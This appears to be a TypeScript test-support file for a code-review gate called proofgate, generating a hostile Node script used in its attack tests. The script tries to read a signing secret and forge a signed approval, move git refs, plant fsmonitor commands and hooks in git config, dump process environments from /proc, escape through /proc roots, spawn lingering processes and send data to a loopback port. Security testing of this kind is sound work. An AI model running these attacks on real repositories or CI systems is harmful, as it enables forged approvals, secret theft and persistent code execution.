/**
 * Hostile head code. `payload(params, actions)` returns the source of a Node
 * script a change author commits as the program a check, lane or gate runs.
 * Every action is tried every way the attacker knows (the worktree's common git
 * dir, the repository's absolute path, /proc), and whatever it achieved is
 * written to a canary OUTSIDE the job's directory, so the test sees it even
 * when the job's own output is lost. Nothing here is trusted by proofgate.
 */
import { CLI, NODE } from './support.js';

export interface PayloadParams {
  /** The real repository (the attacker can guess it: it is in every path proofgate prints). */
  readonly repoDir: string;
  /** Written when the attack achieved something (one line per achievement). */
  readonly canary: string;
  /** A unique token: detached processes carry it in their command line. */
  readonly token: string;
  /** Change id to forge a verdict for. */
  readonly changeId?: string;
  /** Sha `main` is moved to. */
  readonly target?: string;
  /** Where a detached process writes its pid (outside the job dir). */
  readonly pidFile?: string;
  /** Host TCP port (127.0.0.1) to send stolen data to. */
  readonly port?: number;
  /** Extra absolute paths to read and print. */
  readonly readPaths?: readonly string[];
}

export type Action =
  | 'forge-verdict'
  | 'move-main'
  | 'move-head'
  | 'plant-config'
  | 'read-env'
  | 'detach'
  | 'write-outside'
  | 'proc-escape'
  | 'read-paths'
  | 'connect-host'
  | 'fill-tmp'
  | 'fail';

export function payload(params: PayloadParams, actions: readonly Action[]): string {
  const p = { ...params, node: NODE, cli: CLI, actions };
  return `// hostile head code (proofgate attack test)
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { appendFileSync, closeSync, existsSync, openSync, readdirSync, readFileSync, writeFileSync, writeSync } from 'node:fs';
import { createHash, createHmac } from 'node:crypto';
import { connect } from 'node:net';
const P = ${JSON.stringify(p)};
const got = (what) => { console.log('ATTACK ' + what); try { appendFileSync(P.canary, what + '\\n'); } catch {} };
const tryIt = (f) => { try { return f(); } catch { return undefined; } };
const gitDirs = () => {
  const dirs = new Set();
  const common = tryIt(() => execFileSync('git', ['rev-parse', '--path-format=absolute', '--git-common-dir'], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }).trim());
  if (common) dirs.add(common);
  for (const d of [P.repoDir + '/.git', '/proc/1/root' + P.repoDir + '/.git', '/proc/1/cwd/.git', '/proc/' + process.ppid + '/cwd/.git']) dirs.add(d);
  return [...dirs].filter((d) => tryIt(() => existsSync(d + '/HEAD')));
};
const secretOf = () => {
  for (const d of gitDirs()) { const s = tryIt(() => readFileSync(d + '/proofgate/automerge-secret', 'utf8').trim()); if (s) return s; }
  return undefined;
};
const canonical = (o) => '{' + Object.keys(o).sort().map((k) => JSON.stringify(k) + ':' + JSON.stringify(o[k])).join(',') + '}';
const actions = {
  'forge-verdict'() {
    const secret = secretOf();
    if (!secret) return;
    got('read the marker secret');
    const head = process.env.PROOFGATE_HEAD_SHA || tryIt(() => execFileSync('git', ['rev-parse', 'HEAD'], { encoding: 'utf8' }).trim());
    const visible = 'LGTM ' + P.token;
    // Use proofgate's own latest verdict marker as the template (every bound digest is visible in it), flip it, sign it again.
    let template = { v: 2, change: P.changeId, kind: 'review-verdict' };
    const shown = spawnSync(P.node, [P.cli, 'change', 'show', P.changeId, '--json', '--repo', P.repoDir], { encoding: 'utf8' });
    tryIt(() => { for (const c of JSON.parse(shown.stdout).comments) for (const m of c.body.matchAll(/<!-- proofgate:marker v\\d+ (\\{[^\\n]*\\}) -->/g)) { const f = JSON.parse(m[1]); if (f.kind === 'review-verdict') template = f; } });
    const { mac: _old, ...signed } = { ...template, at: '2099-01-01T00:00:00.000Z', head, findings: 0, review: 'rvw_forged', verdict: 'CONFIRMED', body: createHash('sha256').update(visible).digest('hex') };
    const mac = createHmac('sha256', secret).update(canonical(signed)).digest('hex');
    const body = visible + '\\n\\n<!-- proofgate:marker v' + signed.v + ' ' + canonical({ ...signed, mac }) + ' -->\\n';
    for (const as of ['proofgate', 'PROOFGATE']) {
      const r = spawnSync(P.node, [P.cli, 'change', 'comment', P.changeId, body, '--as', as, '--repo', P.repoDir], { encoding: 'utf8' });
      if (r.status === 0) { got('posted a forged CONFIRMED as ' + as); return; }
    }
  },
  'move-main'() {
    for (const d of gitDirs()) {
      if (tryIt(() => execFileSync('git', ['--git-dir', d, 'update-ref', 'refs/heads/main', P.target], { stdio: 'ignore' })) !== undefined) { got('moved main with git in ' + d); return; }
      if (tryIt(() => writeFileSync(d + '/refs/heads/main', P.target + '\\n')) !== undefined) { got('moved main by writing ' + d); return; }
    }
  },
  'move-head'() {
    for (const d of gitDirs()) {
      if (tryIt(() => execFileSync('git', ['--git-dir', d, 'update-ref', 'refs/heads/feature', P.target], { stdio: 'ignore' })) !== undefined) { got('moved the head ref in ' + d); return; }
    }
  },
  'plant-config'() {
    for (const d of gitDirs()) {
      const cmd = 'echo planted >> ' + P.canary;
      if (tryIt(() => appendFileSync(d + '/config', '[core]\\n\\tfsmonitor = "' + cmd + '; false"\\n')) !== undefined) got('planted core.fsmonitor in ' + d);
      if (tryIt(() => writeFileSync(d + '/hooks/post-checkout', '#!/bin/sh\\n' + cmd + '\\n', { mode: 0o755 })) !== undefined) got('planted a hook in ' + d);
      if (tryIt(() => writeFileSync(d + '/info/attributes', '* filter=evil\\n')) !== undefined) got('planted info/attributes in ' + d);
    }
  },
  'read-env'() {
    const seen = [];
    for (const pid of tryIt(() => readdirSync('/proc')) ?? []) {
      if (!/^\\d+$/.test(pid)) continue;
      const env = tryIt(() => readFileSync('/proc/' + pid + '/environ', 'latin1'));
      if (env) seen.push(env.split('\\0').join('\\n'));
    }
    seen.push(Object.entries(process.env).map(([k, v]) => k + '=' + v).join('\\n'));
    const all = seen.join('\\n');
    console.log(all);
    tryIt(() => appendFileSync(P.canary, all));
  },
  'detach'() {
    const script = 'echo $$ > ' + JSON.stringify(P.pidFile ?? '/dev/null') + ' 2>/dev/null; echo $$ > pid.txt; while :; do sleep 1; done # ' + P.token;
    const child = spawn('setsid', ['sh', '-c', script], { detached: true, stdio: 'ignore' });
    child.unref();
    const child2 = spawn('sh', ['-c', 'trap "" TERM HUP; while :; do sleep 1; done # ' + P.token], { detached: true, stdio: 'ignore' });
    child2.unref();
    got('started detached processes');
  },
  'write-outside'() {
    if (tryIt(() => writeFileSync(P.canary, 'written from a job\\n', { flag: 'a' })) !== undefined) console.log('ATTACK wrote outside');
  },
  'proc-escape'() {
    for (const base of ['/proc/self/root', '/proc/1/root', '/proc/' + process.ppid + '/root', '/proc/' + process.ppid + '/root/proc/1/root']) {
      const target = base + P.canary;
      if (tryIt(() => writeFileSync(target, 'escaped through ' + base + '\\n', { flag: 'a' })) !== undefined) console.log('ATTACK wrote through ' + base);
    }
  },
  'read-paths'() {
    for (const path of P.readPaths ?? []) {
      const text = tryIt(() => readFileSync(path, 'utf8'));
      if (text !== undefined) { console.log('READ ' + path + '\\n' + text); got('read ' + path); }
    }
  },
  async 'connect-host'() {
    await new Promise((resolve) => {
      const socket = connect({ host: '127.0.0.1', port: P.port }, () => { socket.end('stolen ' + P.token + '\\n'); got('reached the host loopback'); });
      socket.on('error', () => resolve());
      socket.on('close', () => resolve());
      setTimeout(() => { socket.destroy(); resolve(); }, 5000).unref();
    });
  },
  'fail'() {
    process.exitCode = 1;
  },
  'fill-tmp'() {
    const path = '/tmp/fill-' + P.token;
    const chunk = Buffer.alloc(1 << 20, 120);
    let written = 0;
    try {
      const fd = openSync(path, 'w');
      try { for (let i = 0; i < 1024; i += 1) { writeSync(fd, chunk); written += 1; } } finally { closeSync(fd); }
    } catch (error) { console.log('FILL stopped: ' + error.code); }
    console.log('FILL wrote ' + written + ' MiB');
  },
};
for (const name of P.actions) { try { await actions[name](); } catch (error) { console.log('step ' + name + ' failed: ' + error.message); } }
console.log('ok');
`;
}
